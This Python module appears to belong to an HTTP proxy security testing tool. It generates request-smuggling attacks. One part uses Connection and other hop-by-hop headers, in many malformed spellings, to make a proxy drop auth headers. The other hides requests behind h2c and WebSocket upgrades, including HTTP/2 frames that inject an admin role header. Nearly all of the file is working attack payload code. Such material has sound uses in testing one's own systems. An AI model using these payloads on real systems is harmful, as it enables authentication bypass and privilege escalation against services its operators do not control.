"""Headers about one connection: what they ask a proxy to leave out on its way, and upgrades to what nobody checks."""

from collections.abc import Iterator

from .form import CASE, Attack, asks, attack, get, post, smuggled
from .http2 import frames
from .identity import FEW, FULL

READ = [
    "Cookie",
    "Authorization",
    "Host",
    "X-Original-URL",
    "X-Original-Method",
    "X-Forwarded-Uri",
    "X-Forwarded-Host",
    "X-Forwarded-Method",
    "X-Forwarded-Proto",
    "X-Forwarded-For",
    "X-Real-IP",
    "Origin",
    "Access-Control-Request-Method",
    "Content-Length",
    "Transfer-Encoding",
    "Content-Type",
    "Accept",
    "X-Envoy-Original-Path",
    "X-Envoy-Auth-Headers-To-Remove",
    ":path",
    ":authority",
]

WEBSOCKET = ("Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Version: 13")
SETTINGS = "HTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA"

NOMINATED = {"few": ", ".join(FEW), "all": ", ".join(FULL), "lower case": ", ".join(FULL).lower()} | {
    name: name for name in (*FULL, *READ)
}


def nominations() -> Iterator[Attack]:
    """`Connection: X-Auth-User-Role` asks to drop that header before the request goes on, and a proxy may obey late."""
    for what, names in NOMINATED.items():
        yield attack(f"Connection: {what}", get("/api/x", f"Connection: close, {names}"))
        yield attack(f"Connection: {what}, and it stays", get("/api/x", f"Connection: keep-alive, {names}", stays=True))
    for path in ("/dashboard/x", "/about;x", "/api/x%2fy"):
        yield attack(f"Connection at {path}", get(path, f"Connection: close, {NOMINATED['all']}"))
    for name in (*FEW, "Cookie"):
        spelled = {
            "twice": [f"Connection: {name}", "Connection: close"],
            "and then close": [f"Connection: {name}, close"],
            "alone": [f"Connection: {name}"],
            "without spaces": [f"Connection:{name},close"],
            "with a tab": [f"Connection:\t{name}\t,\tclose"],
            "folded": ["Connection: close,", f" {name}"],
            "with a space before the colon": [f"Connection : {name}"],
            "in quotes": [f'Connection: "{name}"'],
            "with an underscore": [f"Connection: {name.replace('-', '_')}"],
            "beside itself": [f"Connection: connection, {name}"],
            "beside Keep-Alive": [f"Connection: keep-alive, {name}", "Keep-Alive: timeout=5"],
            "beside TE": [f"Connection: TE, {name}", "TE: trailers"],
            "in capitals": [f"CONNECTION: {name.upper()}"],
            "with a form feed": [f"Connection: \x0c{name}"],
        }
        for how, spelling in spelled.items():
            yield attack(f"Connection: {name} {how}", get("/api/x", *spelling))
        for header in ("Proxy-Connection", "Keep-Alive", "TE", "Trailer", "Upgrade", "X-Connection", "Via", "No-Vary"):
            yield attack(f"{header}: {name}", get("/api/x", f"{header}: {name}"))
        for path in ("/ws", "/api/x"):
            yield attack(
                f"Connection: {name} of a WebSocket at {path}", websocket(path, f"Connection: Upgrade, {name}")
            )
            yield attack(
                f"Connection: {name} apart from the WebSocket's at {path}",
                websocket(path, "Connection: Upgrade", f"Connection: {name}"),
            )
        yield attack(f"Connection: {name} in HTTP/1.0", asks("GET /api/x HTTP/1.0", f"Connection: {name}"))
        yield attack(
            f"Connection: {name} of a POST", post("/api/x", f"Connection: {name}", "Content-Length: 2", body=b"hi")
        )


def websocket(path: str, *more: str) -> bytes:
    return get(path, *more, "Upgrade: websocket", *WEBSOCKET, stays=True)


UPGRADES = {
    "h2c": ["Upgrade: h2c", SETTINGS],
    "h2c without settings": ["Upgrade: h2c"],
    "h2": ["Upgrade: h2"],
    "h2c in capitals": ["Upgrade: H2C", SETTINGS],
    "h2c and a WebSocket": ["Upgrade: h2c, websocket", SETTINGS, *WEBSOCKET],
    "a WebSocket and h2c": ["Upgrade: websocket, h2c", SETTINGS, *WEBSOCKET],
    "h2c, then a WebSocket": ["Upgrade: h2c", "Upgrade: websocket", SETTINGS, *WEBSOCKET],
    "a WebSocket, then h2c": ["Upgrade: websocket", "Upgrade: h2c", SETTINGS, *WEBSOCKET],
    "h2c folded": ["Upgrade:", " h2c", SETTINGS],
    "h2c with a space before the colon": ["Upgrade : h2c", SETTINGS],
    "a WebSocket with its case mixed": ["Upgrade: WebSocket", *WEBSOCKET],
    "a WebSocket of a version": ["Upgrade: websocket/13", *WEBSOCKET],
    "a WebSocket that is none": ["Upgrade: websocket"],
    "a WebSocket of a wrong version": ["Upgrade: websocket", WEBSOCKET[0], "Sec-WebSocket-Version: 1337"],
    "a WebSocket": ["Upgrade: websocket", *WEBSOCKET],
    "TLS": ["Upgrade: TLS/1.2"],
    "something": ["Upgrade: something"],
    "connect-udp": ["Upgrade: connect-udp", "Capsule-Protocol: ?1"],
}

CONNECTIONS = {
    "upgrade": "Connection: Upgrade",
    "upgrade and settings": "Connection: Upgrade, HTTP2-Settings",
    "keep-alive": "Connection: keep-alive, Upgrade",
    "none": "X-No-Connection: true",
}


FEWER = {"upgrade": CONNECTIONS["upgrade"]}


def upgrades() -> Iterator[Attack]:
    """What stands behind an upgrade goes by unchecked if the proxy believes that one took place."""
    inside = [
        (b":method", b"GET"),
        (b":path", b"/api/smuggled"),
        (b":scheme", b"http"),
        (b":authority", b"app.example"),
    ]
    inside += [(b"x-case", CASE), (b"x-auth-status", b"user"), (b"x-auth-user-role", b"admin")]
    for path in ("/about", "/api/x", "/ws", "/dashboard/x", "/api/auth/get-session"):
        for what, upgrade in UPGRADES.items():
            for how, via in CONNECTIONS.items() if path in ("/about", "/ws") else FEWER.items():
                head = get(path, via, *upgrade, stays=True)
                yield attack(f"{what} at {path} by {how}", head, smuggled())
                if "h2" in what:
                    yield attack(f"{what} at {path} by {how}, and then HTTP/2", head, frames(inside))
        yield attack(
            f"a request right behind a WebSocket at {path}", websocket(path, "Connection: Upgrade") + smuggled()
        )
        body = smuggled()
        yield attack(
            f"a WebSocket with a body at {path}",
            asks(
                f"GET {path} HTTP/1.1",
                "Connection: Upgrade",
                "Upgrade: websocket",
                *WEBSOCKET,
                f"Content-Length: {len(body)}",
                stays=True,
                body=body,
            ),
        )
        yield attack(
            f"a WebSocket by POST at {path}",
            asks(
                f"POST {path} HTTP/1.1",
                "Connection: Upgrade",
                "Upgrade: websocket",
                *WEBSOCKET,
                "Content-Length: 0",
                stays=True,
            )
            + body,
        )
        yield attack(
            f"a WebSocket in HTTP/1.0 at {path}",
            asks(f"GET {path} HTTP/1.0", "Connection: Upgrade", "Upgrade: websocket", *WEBSOCKET, stays=True) + body,
        )


NOMINATIONS = [*nominations()]
UPGRADING = [*upgrades()]
